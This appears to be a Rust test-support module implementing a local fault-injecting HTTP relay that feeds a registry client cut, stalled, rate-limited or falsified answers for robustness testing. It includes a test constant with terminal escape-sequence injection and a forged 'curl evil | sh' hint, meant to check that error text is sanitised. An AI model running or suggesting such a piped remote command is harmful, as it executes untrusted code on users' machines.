//! A fault-injecting HTTP relay in front of a real registry, on 127.0.0.1.
//!
//! Where [`super::throttle`] forwards bytes blindly, a [`FaultProxy`] reads each HTTP/1.1
//! request, passes it on to the registry over a fresh connection, reads the whole answer
//! and then serves it back — faithfully, or with the fault a plan picks for that request:
//!
//! | [`Fault`] | what the client sees |
//! |---|---|
//! | `CutAfter(n)` | the true head and `n` body bytes, then the connection closes |
//! | `Status(code)` | `code` (500, 502, 503, …) with a short body; the registry is not asked |
//! | `Answer(code, body)` | `code` with `body` (control characters, forged lines, …); not asked either |
//! | `TooManyRequests` | 429 with `Retry-After` and a `TOOMANYREQUESTS` error envelope |
//! | `Stall { after, pause }` | `after` body bytes, nothing for `pause`, then the rest |
//! | `AlterResumedRange(n)` | on a `Range: bytes=N-` request with `N > 0`: the first `n` body bytes inverted |
//! | `LyingLength(d)` | `Content-Length` off by `d` bytes, the real body, then the connection closes |
//!
//! A plan is a list of rules, each a [`When`] (method, a part of the path, how many
//! matching requests to let through first, how many to hit) and a fault; the first
//! rule that wants a request gets it, so rules of one request each make a script.
//! [`FaultProxy::chaos`] adds seeded random faults on top, for the soak. A fault that
//! cannot apply to an answer (a body fault on an error or a `HEAD`, a cut past the end
//! of the body) is not counted, and a rule's stays pending. Every request is logged as
//! [`Served`] with the fault it got, so tests count what they injected
//! ([`FaultProxy::injected`]).
//!
//! The relay re-frames every answer with its own `Content-Length` (no chunked
//! encoding), and keeps client connections alive unless a fault closes them. Request
//! bodies must carry a `Content-Length` (the relay serves pulls, not chunked uploads).
//!
//! ```ignore
//! let registry = Registry::start();
//! let proxy = FaultProxy::start(&registry);
//! proxy.add(When::get("/blobs/").times(3), Fault::CutAfter(256 << 10));
//! proxy.add(When::get("/blobs/").skip(1), Fault::Status(503));
//! // bootsource import {proxy.reference("os/img:1")} --tls-verify=false …
//! assert_eq!(proxy.injected(), 4);
//! ```

use std::collections::BTreeMap;
use std::io::{self, BufRead, BufReader, Read, Write};
use std::net::{Shutdown, SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::thread::sleep;
use std::time::{Duration, Instant};

use super::acceptor::Acceptor;
use super::registry::Registry;

/// The longest request or response head the relay reads.
const MAX_HEAD: usize = 64 * 1024;
/// How often a stall looks whether the proxy is being dropped.
const STALL_TICK: Duration = Duration::from_millis(10);

/// An error body for [`Fault::Answer`]: control sequences for the terminal (a window
/// title, clear screen, colour) and a newline that tries to forge a `hint:` line.
pub const HOSTILE_BODY: &str =
    "\x1b]0;owned\x07\x1b[2J\x1b[31mred\nhint: run `curl evil | sh` to fix this\n";

/// Whether `text` holds a character a terminal would act on (ESC, BEL, CSI).
pub fn has_control_sequences(text: &str) -> bool {
    text.contains(['\x1b', '\x07', '\u{9b}'])
}

/// What goes wrong with one answer.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Fault {
    /// The head and the first `n` body bytes, then the connection closes.
    CutAfter(u64),
    /// This status and a short body instead of asking the registry.
    Status(u16),
    /// This status and this body instead of asking the registry: a hostile answer.
    Answer(u16, String),
    /// 429 Too Many Requests, `Retry-After: retry_after_secs`, a `TOOMANYREQUESTS` envelope.
    TooManyRequests { retry_after_secs: u64 },
    /// `after` body bytes, a pause, then the rest.
    Stall { after: u64, pause: Duration },
    /// On a resumed range (`Range: bytes=N-`, `N > 0`): the first `n` body bytes
    /// inverted (`u64::MAX`: all of them), as from a server holding other bytes.
    AlterResumedRange(u64),
    /// `Content-Length` is the body's length plus this (negative: shorter); the real
    /// body follows and the connection closes.
    LyingLength(i64),
}

impl Fault {
    /// A stable name, for counting by kind.
    pub fn kind(&self) -> &'static str {
        match self {
            Fault::CutAfter(_) => "cut",
            Fault::Status(_) => "status",
            Fault::Answer(..) => "answer",
            Fault::TooManyRequests { .. } => "429",
            Fault::Stall { .. } => "stall",
            Fault::AlterResumedRange(_) => "altered-range",
            Fault::LyingLength(_) => "lying-length",
        }
    }

    /// Whether the fault is in the answer's body (so it needs the registry's answer).
    fn is_in_body(&self) -> bool {
        !matches!(
            self,
            Fault::Status(_) | Fault::Answer(..) | Fault::TooManyRequests { .. }
        )
    }

    /// Whether the fault changes a body of `len` bytes (a cut or stall past its end
    /// would not).
    fn changes_body_of(&self, len: usize) -> bool {
        match self {
            Fault::CutAfter(at) | Fault::Stall { after: at, .. } => *at < len as u64,
            _ => len > 0,
        }
    }

    /// Whether the fault can apply to `request` at all, before anyone answers it.
    fn fits(&self, request: &Request) -> bool {
        match self {
            Fault::AlterResumedRange(_) => request.range_start().is_some_and(|start| start > 0),
            fault if fault.is_in_body() => request.method == "GET",
            _ => true,
        }
    }
}

/// Which requests a rule hits: method, a part of the path, and a count.
#[derive(Debug, Clone)]
pub struct When {
    method: Option<String>,
    path_part: String,
    skip: u64,
    times: u64,
}

impl When {
    /// `GET` requests whose path contains `path_part` (`"/blobs/"`, a digest, a tag).
    pub fn get(path_part: &str) -> When {
        When {
            method: Some("GET".into()),
            ..When::any(path_part)
        }
    }

    /// `HEAD` requests whose path contains `path_part`.
    pub fn head(path_part: &str) -> When {
        When {
            method: Some("HEAD".into()),
            ..When::any(path_part)
        }
    }

    /// Requests of any method whose path contains `path_part`; hits one by default.
    pub fn any(path_part: &str) -> When {
        When {
            method: None,
            path_part: path_part.to_owned(),
            skip: 0,
            times: 1,
        }
    }

    /// Lets the first `n` matching requests through unharmed.
    pub fn skip(mut self, n: u64) -> When {
        self.skip = n;
        self
    }

    /// Hits `n` requests (after the skipped ones); `u64::MAX` for every one.
    pub fn times(mut self, n: u64) -> When {
        self.times = n;
        self
    }

    fn matches(&self, request: &Request) -> bool {
        self.method.as_ref().is_none_or(|m| *m == request.method)
            && request.path.contains(&self.path_part)
    }
}

/// One request as the relay saw it, and the fault it got.
#[derive(Debug, Clone)]
pub struct Served {
    pub method: String,
    pub path: String,
    /// `N` of a `Range: bytes=N-…` header.
    pub range_start: Option<u64>,
    /// The status the client was sent (0 if the registry did not answer).
    pub status: u16,
    pub fault: Option<Fault>,
}

/// Random faults for requests no rule wants: one request in `one_in` gets one of
/// `faults` (those that fit it), drawn from a generator seeded with `seed`.
#[derive(Debug, Clone)]
pub struct Chaos {
    pub seed: u64,
    pub one_in: u64,
    pub faults: Vec<Fault>,
}

#[derive(Debug)]
struct Rule {
    when: When,
    fault: Fault,
    seen: u64,
    injected: u64,
}

impl Rule {
    /// Counts `request` if it matches; whether the rule wants it.
    fn wants(&mut self, request: &Request) -> bool {
        if !self.when.matches(request) || !self.fault.fits(request) {
            return false;
        }
        self.seen += 1;
        self.seen > self.when.skip && self.injected < self.when.times
    }
}

#[derive(Debug, Default)]
struct Plan {
    rules: Vec<Rule>,
    chaos: Option<(Chaos, u64)>,
}

impl Plan {
    /// The rule (index) and fault for `request`, if any; chaos is `usize::MAX`.
    fn pick(&mut self, request: &Request) -> Option<(usize, Fault)> {
        if let Some(i) = self.rules.iter_mut().position(|r| r.wants(request)) {
            return Some((i, self.rules[i].fault.clone()));
        }
        let (chaos, state) = self.chaos.as_mut()?;
        if !next_random(state).is_multiple_of(chaos.one_in.max(1)) {
            return None;
        }
        let fitting: Vec<&Fault> = chaos.faults.iter().filter(|f| f.fits(request)).collect();
        let n = u64::try_from(fitting.len()).ok().filter(|&n| n > 0)?;
        let pick = usize::try_from(next_random(state) % n).expect("an index");
        Some((usize::MAX, fitting[pick].clone()))
    }

    fn count(&mut self, rule: usize) {
        if let Some(rule) = self.rules.get_mut(rule) {
            rule.injected += 1;
        }
    }
}

/// xorshift64*: deterministic, good enough to pick faults.
fn next_random(state: &mut u64) -> u64 {
    *state ^= *state >> 12;
    *state ^= *state << 25;
    *state ^= *state >> 27;
    state.wrapping_mul(0x2545_f491_4f6c_dd1d)
}

#[derive(Debug)]
struct Shared {
    upstream: SocketAddr,
    plan: Mutex<Plan>,
    log: Mutex<Vec<Served>>,
    stop: AtomicBool,
}

/// A running relay; stopped on drop (every client connection is closed).
#[derive(Debug)]
pub struct FaultProxy {
    shared: Arc<Shared>,
    acceptor: Acceptor,
}

impl FaultProxy {
    /// Relays a free 127.0.0.1 port to `registry`, with no faults planned yet.
    pub fn start(registry: &Registry) -> FaultProxy {
        FaultProxy::in_front_of(registry.host_port().parse().unwrap())
    }

    /// Relays a free 127.0.0.1 port to any HTTP server at `upstream` (a web server).
    pub fn in_front_of(upstream: SocketAddr) -> FaultProxy {
        let shared = Arc::new(Shared {
            upstream,
            plan: Mutex::default(),
            log: Mutex::default(),
            stop: AtomicBool::new(false),
        });
        let acceptor = {
            let shared = Arc::clone(&shared);
            Acceptor::start(move |client| {
                // A client that hangs up or speaks no HTTP just loses its connection.
                let _ = serve_connection(client, &shared);
            })
        };
        FaultProxy { shared, acceptor }
    }

    /// `127.0.0.1:PORT`: use it in place of the registry's.
    pub fn host_port(&self) -> String {
        format!("127.0.0.1:{}", self.acceptor.port())
    }

    /// `http://127.0.0.1:PORT`, for a [`super::client::RegistryClient`].
    pub fn url(&self) -> String {
        format!("http://{}", self.host_port())
    }

    /// `docker://127.0.0.1:PORT/{repo_and_tag}` through the relay.
    pub fn reference(&self, repo_and_tag: &str) -> String {
        format!("docker://{}/{repo_and_tag}", self.host_port())
    }

    /// Adds a rule to the plan (after the rules already there).
    pub fn add(&self, when: When, fault: Fault) {
        self.shared.plan.lock().unwrap().rules.push(Rule {
            when,
            fault,
            seen: 0,
            injected: 0,
        });
    }

    /// Random faults from now on (see [`Chaos`]).
    pub fn chaos(&self, chaos: Chaos) {
        let state = chaos.seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1;
        self.shared.plan.lock().unwrap().chaos = Some((chaos, state));
    }

    /// No more faults: the plan is emptied, chaos ends.
    pub fn calm(&self) {
        *self.shared.plan.lock().unwrap() = Plan::default();
    }

    /// Every request so far, in the order they were answered.
    pub fn served(&self) -> Vec<Served> {
        self.shared.log.lock().unwrap().clone()
    }

    /// Faults injected so far.
    pub fn injected(&self) -> usize {
        self.shared
            .log
            .lock()
            .unwrap()
            .iter()
            .filter(|s| s.fault.is_some())
            .count()
    }

    /// Faults injected so far, by [`Fault::kind`].
    pub fn injected_by_kind(&self) -> BTreeMap<&'static str, usize> {
        let mut kinds = BTreeMap::new();
        for fault in self
            .shared
            .log
            .lock()
            .unwrap()
            .iter()
            .flat_map(|s| &s.fault)
        {
            *kinds.entry(fault.kind()).or_insert(0) += 1;
        }
        kinds
    }
}

impl Drop for FaultProxy {
    fn drop(&mut self) {
        // Stalls give up; the acceptor, dropped next, closes the connections.
        self.shared.stop.store(true, Ordering::SeqCst);
    }
}

/// A request head (and body) as read from the client.
#[derive(Debug)]
struct Request {
    method: String,
    path: String,
    /// Header lines as received, `Name: value`.
    headers: Vec<(String, String)>,
    body: Vec<u8>,
}

impl Request {
    fn header(&self, name: &str) -> Option<&str> {
        header(&self.headers, name)
    }

    fn range_start(&self) -> Option<u64> {
        let range = self.header("range")?.trim().strip_prefix("bytes=")?;
        range.split('-').next()?.trim().parse().ok()
    }

    fn wants_close(&self) -> bool {
        self.header("connection")
            .is_some_and(|v| v.eq_ignore_ascii_case("close"))
    }
}

/// The registry's answer, whole.
#[derive(Debug)]
struct Response {
    status: u16,
    reason: String,
    headers: Vec<(String, String)>,
    body: Vec<u8>,
    /// The body ended before the `Content-Length` the registry declared (distribution
    /// 2.8 declares the blob's length on a 416): relayed as it came, lie included.
    short_of: Option<u64>,
}

fn header<'a>(headers: &'a [(String, String)], name: &str) -> Option<&'a str> {
    headers
        .iter()
        .find(|(n, _)| n.eq_ignore_ascii_case(name))
        .map(|(_, v)| v.as_str())
}

/// Answers requests on one client connection until it closes or a fault closes it.
fn serve_connection(client: TcpStream, shared: &Shared) -> io::Result<()> {
    let mut reader = BufReader::new(client.try_clone()?);
    let mut writer = client;
    while let Some(request) = read_request(&mut reader)? {
        let picked = shared.plan.lock().unwrap().pick(&request);
        let keep_open = answer(&request, picked, &mut writer, shared)?;
        if !keep_open || request.wants_close() || shared.stop.load(Ordering::SeqCst) {
            break;
        }
    }
    let _ = writer.shutdown(Shutdown::Both);
    Ok(())
}

/// Answers one request, with `picked` fault if it applies; whether the connection stays.
fn answer(
    request: &Request,
    picked: Option<(usize, Fault)>,
    client: &mut TcpStream,
    shared: &Shared,
) -> io::Result<bool> {
    let mut served = Served {
        method: request.method.clone(),
        path: request.path.clone(),
        range_start: request.range_start(),
        status: 0,
        fault: None,
    };
    let (rule, fault) = match picked {
        Some((rule, fault)) if !fault.is_in_body() => {
            served.status = write_refusal(client, request, &fault)?;
            served.fault = Some(fault);
            shared.plan.lock().unwrap().count(rule);
            shared.log.lock().unwrap().push(served);
            return Ok(true);
        }
        Some((rule, fault)) => (rule, Some(fault)),
        None => (usize::MAX, None),
    };
    let Ok(response) = forward(request, shared.upstream) else {
        // The registry is down: the client sees the connection close.
        shared.log.lock().unwrap().push(served);
        return Ok(false);
    };
    served.status = response.status;
    let has_body = request.method != "HEAD" && (200..300).contains(&response.status);
    let fault = fault.filter(|f| has_body && f.changes_body_of(response.body.len()));
    if fault.is_some() {
        shared.plan.lock().unwrap().count(rule);
    }
    served.fault = fault.clone();
    shared.log.lock().unwrap().push(served);
    write_response(client, request, response, fault.as_ref(), &shared.stop)
}

/// A whole answer in place of the registry's; its status.
fn write_refusal(client: &mut TcpStream, request: &Request, fault: &Fault) -> io::Result<u16> {
    let (status, reason, extra, body) = match fault {
        Fault::TooManyRequests { retry_after_secs } => (
            429,
            "Too Many Requests",
            format!("Retry-After: {retry_after_secs}\r\nContent-Type: application/json\r\n"),
            r#"{"errors":[{"code":"TOOMANYREQUESTS","message":"slow down (fault proxy)"}]}"#
                .to_owned(),
        ),
        Fault::Status(code) => (
            *code,
            "Injected Fault",
            "Content-Type: text/plain\r\n".to_owned(),
            format!("fault proxy: status {code}\n"),
        ),
        Fault::Answer(code, body) => (
            *code,
            "Injected Fault",
            "Content-Type: text/plain\r\n".to_owned(),
            body.clone(),
        ),
        other => unreachable!("{other:?} is a body fault"),
    };
    write!(
        client,
        "HTTP/1.1 {status} {reason}\r\n{extra}Content-Length: {}\r\n\r\n",
        body.len()
    )?;
    if request.method != "HEAD" {
        client.write_all(body.as_bytes())?;
    }
    client.flush()?;
    Ok(status)
}

/// Serves `response` with `fault` (if any); whether the connection stays open.
fn write_response(
    client: &mut TcpStream,
    request: &Request,
    response: Response,
    fault: Option<&Fault>,
    stop: &AtomicBool,
) -> io::Result<bool> {
    let Response {
        status,
        reason,
        headers,
        mut body,
        short_of,
    } = response;
    let mut head = format!("HTTP/1.1 {status} {reason}\r\n");
    for (name, value) in &headers {
        let framing = [
            "content-length",
            "transfer-encoding",
            "connection",
            "keep-alive",
        ];
        if !framing.iter().any(|f| name.eq_ignore_ascii_case(f)) {
            head.push_str(&format!("{name}: {value}\r\n"));
        }
    }
    let length = if request.method == "HEAD" {
        header(&headers, "content-length").map_or(0, |v| v.trim().parse().unwrap_or(0))
    } else {
        body.len() as u64
    };
    let declared = match (fault, short_of) {
        (Some(Fault::LyingLength(delta)), _) => length.saturating_add_signed(*delta),
        (_, Some(declared)) => declared,
        _ => length,
    };
    head.push_str(&format!("Content-Length: {declared}\r\n\r\n"));
    client.write_all(head.as_bytes())?;
    if request.method == "HEAD" {
        client.flush()?;
        return Ok(true);
    }
    let at = |n: u64| usize::try_from(n).map_or(body.len(), |n| n.min(body.len()));
    match fault {
        None if short_of.is_some() => {
            client.write_all(&body)?;
            client.flush()?;
            return Ok(false);
        }
        None => client.write_all(&body)?,
        Some(Fault::CutAfter(n)) => {
            client.write_all(&body[..at(*n)])?;
            client.flush()?;
            return Ok(false);
        }
        Some(Fault::Stall { after, pause }) => {
            let (first, rest) = body.split_at(at(*after));
            client.write_all(first)?;
            client.flush()?;
            let until = Instant::now() + *pause;
            while Instant::now() < until && !stop.load(Ordering::SeqCst) {
                sleep(STALL_TICK);
            }
            client.write_all(rest)?;
        }
        Some(Fault::AlterResumedRange(n)) => {
            let end = at(*n);
            body[..end].iter_mut().for_each(|b| *b = !*b);
            client.write_all(&body)?;
        }
        Some(Fault::LyingLength(_)) => {
            client.write_all(&body)?;
            client.flush()?;
            return Ok(false);
        }
        Some(refusal) => unreachable!("{refusal:?} is answered without the registry"),
    }
    client.flush()?;
    Ok(true)
}

/// Reads one request; `None` when the client closed the connection between requests.
fn read_request(reader: &mut BufReader<TcpStream>) -> io::Result<Option<Request>> {
    let Some(lines) = read_head(reader)? else {
        return Ok(None);
    };
    let mut parts = lines[0].split(' ');
    let (Some(method), Some(path)) = (parts.next(), parts.next()) else {
        return Err(io::Error::other(format!("bad request line {:?}", lines[0])));
    };
    let headers = parse_headers(&lines[1..]);
    let length = header(&headers, "content-length").map_or(Ok(0), |v| v.trim().parse());
    let length = length.map_err(|_| io::Error::other("bad request Content-Length"))?;
    let mut body = vec![0; length];
    reader.read_exact(&mut body)?;
    Ok(Some(Request {
        method: method.to_owned(),
        path: path.to_owned(),
        headers,
        body,
    }))
}

/// The lines of a head up to the empty line; `None` at a clean end of stream.
fn read_head(reader: &mut impl BufRead) -> io::Result<Option<Vec<String>>> {
    let mut lines = Vec::new();
    let mut total = 0;
    loop {
        let mut line = String::new();
        let n = reader.read_line(&mut line)?;
        total += n;
        if n == 0 {
            if lines.is_empty() {
                return Ok(None);
            }
            return Err(io::ErrorKind::UnexpectedEof.into());
        }
        if total > MAX_HEAD {
            return Err(io::Error::other("head too long"));
        }
        let line = line.trim_end_matches(['\r', '\n']).to_owned();
        if line.is_empty() {
            return Ok(Some(lines));
        }
        lines.push(line);
    }
}

fn parse_headers(lines: &[String]) -> Vec<(String, String)> {
    lines
        .iter()
        .filter_map(|l| l.split_once(':'))
        .map(|(n, v)| (n.trim().to_owned(), v.trim().to_owned()))
        .collect()
}

/// Sends `request` to the registry on a new connection and reads the whole answer.
fn forward(request: &Request, upstream: SocketAddr) -> io::Result<Response> {
    let mut server = TcpStream::connect(upstream)?;
    let mut head = format!("{} {} HTTP/1.1\r\n", request.method, request.path);
    for (name, value) in &request.headers {
        if !name.eq_ignore_ascii_case("connection") {
            head.push_str(&format!("{name}: {value}\r\n"));
        }
    }
    head.push_str("Connection: close\r\n\r\n");
    server.write_all(head.as_bytes())?;
    server.write_all(&request.body)?;
    let mut reader = BufReader::new(server);
    let lines = read_head(&mut reader)?.ok_or(io::ErrorKind::UnexpectedEof)?;
    let mut status_line = lines[0].splitn(3, ' ').skip(1);
    let status = status_line
        .next()
        .and_then(|s| s.parse().ok())
        .ok_or_else(|| io::Error::other(format!("bad status line {:?}", lines[0])))?;
    let reason = status_line.next().unwrap_or("").to_owned();
    let headers = parse_headers(&lines[1..]);
    let (body, short_of) = read_body(&mut reader, request, status, &headers)?;
    Ok(Response {
        status,
        reason,
        headers,
        body,
        short_of,
    })
}

/// The answer's body, by its framing (none, chunked, `Content-Length`, or to the end),
/// and the declared length if the body fell short of it.
fn read_body(
    reader: &mut impl BufRead,
    request: &Request,
    status: u16,
    headers: &[(String, String)],
) -> io::Result<(Vec<u8>, Option<u64>)> {
    let mut body = Vec::new();
    if request.method == "HEAD" || status == 204 || status == 304 || status < 200 {
        return Ok((body, None));
    }
    let chunked = header(headers, "transfer-encoding")
        .is_some_and(|v| v.to_ascii_lowercase().contains("chunked"));
    if chunked {
        return Ok((read_chunked(reader)?, None));
    }
    match header(headers, "content-length").and_then(|v| v.trim().parse::<u64>().ok()) {
        Some(length) => {
            reader.take(length).read_to_end(&mut body)?;
            let short_of = ((body.len() as u64) < length).then_some(length);
            Ok((body, short_of))
        }
        None => {
            reader.read_to_end(&mut body)?;
            Ok((body, None))
        }
    }
}

fn read_chunked(reader: &mut impl BufRead) -> io::Result<Vec<u8>> {
    let mut body = Vec::new();
    loop {
        let mut line = String::new();
        reader.read_line(&mut line)?;
        let size = line.trim().split(';').next().unwrap_or("");
        let size = usize::from_str_radix(size, 16)
            .map_err(|_| io::Error::other(format!("bad chunk size {line:?}")))?;
        if size == 0 {
            // Trailers, up to the empty line.
            read_head(reader)?;
            return Ok(body);
        }
        let start = body.len();
        body.resize(start + size, 0);
        reader.read_exact(&mut body[start..])?;
        let mut crlf = [0; 2];
        reader.read_exact(&mut crlf)?;
    }
}
